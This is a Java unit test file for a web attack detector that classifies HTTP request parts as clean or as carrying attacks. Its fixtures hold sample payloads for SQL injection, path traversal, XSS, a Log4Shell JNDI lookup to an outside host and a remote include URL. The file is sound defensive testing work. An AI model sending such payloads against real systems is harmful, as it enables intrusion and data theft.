package dev.mimamori.detect.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mimamori.model.Event;
import java.time.Instant;
import org.junit.jupiter.api.Test;

class WebAttackAnalyzerTest {
  private static final String BROWSER =
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
          + " Chrome/120.0.0.0 Safari/537.36";

  private static Event.Builder request(String target) {
    int q = target.indexOf('?');
    return Event.builder()
        .timestamp(Instant.parse("2026-11-19T18:00:00Z"))
        .tenant("acme")
        .asset("furusato-shop")
        .dataset("http.access")
        .original("GET " + target)
        .method("GET")
        .urlOriginal(target)
        .urlPath(q < 0 ? target : target.substring(0, q))
        .urlQuery(q < 0 ? null : target.substring(q + 1))
        .userAgent(BROWSER)
        .referrer("https://furusato-shop.example.jp/products/list?category_id=3");
  }

  @Test
  void productListWithJapaneseSearchIsClean() {
    assertThat(
            WebAttackAnalyzer.analyze(
                request("/products/list?category_id=3&name=%E3%82%AF&pageno=2").build()))
        .isEmpty();
  }

  @Test
  void shoppingConfirmIsClean() {
    assertThat(WebAttackAnalyzer.analyze(request("/shopping/confirm").build())).isEmpty();
  }

  @Test
  void mypageLoginIsClean() {
    assertThat(WebAttackAnalyzer.analyze(request("/mypage/login").build())).isEmpty();
  }

  @Test
  void productDetailIsClean() {
    assertThat(WebAttackAnalyzer.analyze(request("/products/detail/12?ref=top").build())).isEmpty();
  }

  @Test
  void namesThePartAndParameterThatCarriesTheAttack() {
    assertThat(
            WebAttackAnalyzer.analyze(
                request("/products/list?category_id=3&name=%27%20or%201%3D1--").build()))
        .extracting(WebAttackAnalyzer.PartFindings::part)
        .containsExactly("url.query:name");
  }

  @Test
  void findsTraversalInThePath() {
    assertThat(WebAttackAnalyzer.analyze(request("/html/..%2f..%2f.env").build()))
        .flatExtracting(WebAttackAnalyzer.PartFindings::findings)
        .extracting(Finding::attackClass)
        .contains("traversal");
  }

  @Test
  void findsSqlInjectionInAPathSegment() {
    assertThat(WebAttackAnalyzer.analyze(request("/products/detail/1%20OR%201=1").build()))
        .flatExtracting(WebAttackAnalyzer.PartFindings::findings)
        .extracting(Finding::attackClass)
        .containsExactly("sqli");
  }

  @Test
  void findsLog4ShellInTheUserAgent() {
    assertThat(
            WebAttackAnalyzer.analyze(
                request("/").userAgent("${${lower:j}ndi:ldap://203.0.113.7/a}").build()))
        .extracting(WebAttackAnalyzer.PartFindings::part)
        .containsExactly("user_agent.original");
  }

  @Test
  void findsXssInTheReferrer() {
    assertThat(
            WebAttackAnalyzer.analyze(
                request("/").referrer("https://x.example/?q=<script>alert(1)</script>").build()))
        .extracting(WebAttackAnalyzer.PartFindings::part)
        .containsExactly("http.request.referrer");
  }

  @Test
  void findsAttacksInParameterNames() {
    assertThat(WebAttackAnalyzer.analyze(request("/?%3Csvg%20onload%3Dalert(1)%3E=1").build()))
        .extracting(WebAttackAnalyzer.PartFindings::part)
        .containsExactly("url.query:<svg onload=alert(1)> (name)");
  }

  @Test
  void readsTheQueryFromTheOriginalUrlWhenItIsNotSplit() {
    Event e =
        request("/").urlPath(null).urlQuery(null).urlOriginal("/search?q=%3Cscript%3E").build();

    assertThat(WebAttackAnalyzer.analyze(e))
        .extracting(WebAttackAnalyzer.PartFindings::part)
        .containsExactly("url.query:q");
  }

  @Test
  void readsAtMostSixtyFourParameters() {
    String query = "a=1&".repeat(100) + "z=%27%20or%201%3D1--";

    assertThat(WebAttackAnalyzer.parameters(query)).hasSize(WebAttackAnalyzer.MAX_PARAMETERS);
  }

  @Test
  void remoteUrlInAnIncludeParameterIsRfi() {
    assertThat(WebAttackAnalyzer.analyzeParameter("page", "http://evil.example/shell.txt"))
        .extracting(Finding::attackClass)
        .containsExactly("rfi");
  }

  @Test
  void reportsEachAttackClassOnce() {
    assertThat(WebAttackAnalyzer.analyze("../../etc/passwd' or 1=1-- <script>alert(1)</script>"))
        .extracting(Finding::attackClass)
        .doesNotHaveDuplicates();
  }

  @Test
  void evidenceIsShortAndPrintable() {
    String value = "%0a".repeat(500) + "<script>alert(1)</script>";

    assertThat(WebAttackAnalyzer.analyze(value).get(0).evidence())
        .hasSizeLessThanOrEqualTo(Evidence.MAX + 2)
        .doesNotContain("\n");
  }

  @Test
  void namesTheBodyFieldAScriptWasPostedIn() {
    var event =
        request("/shopping/confirm")
            .extra(
                WebAttackAnalyzer.BODY,
                "_shopping_order%5Bmessage%5D=%3Cscript%3Ealert(1)%3C%2Fscript%3E&x=1")
            .build();

    assertThat(WebAttackAnalyzer.analyze(event))
        .extracting(WebAttackAnalyzer.PartFindings::part)
        .containsExactly("http.request.body.content:_shopping_order[message]");
  }

  @Test
  void analyzesABodyThatIsNotAFormAsOneValue() {
    var event =
        request("/api/order")
            .extra(WebAttackAnalyzer.BODY, "{\"note\":\"<svg onload=alert(1)>\"}")
            .build();

    assertThat(WebAttackAnalyzer.analyze(event))
        .extracting(WebAttackAnalyzer.PartFindings::part)
        .containsExactly("http.request.body.content");
  }

  @Test
  void anOrdinaryOrderFormIsClean() {
    var event =
        request("/shopping/confirm")
            .extra(
                WebAttackAnalyzer.BODY,
                "_shopping_order%5Bmessage%5D=%E5%86%8D%E9%85%8D%E9%81%94&_shopping_order%5BPayment%5D=4")
            .build();

    assertThat(WebAttackAnalyzer.analyze(event)).isEmpty();
  }
}
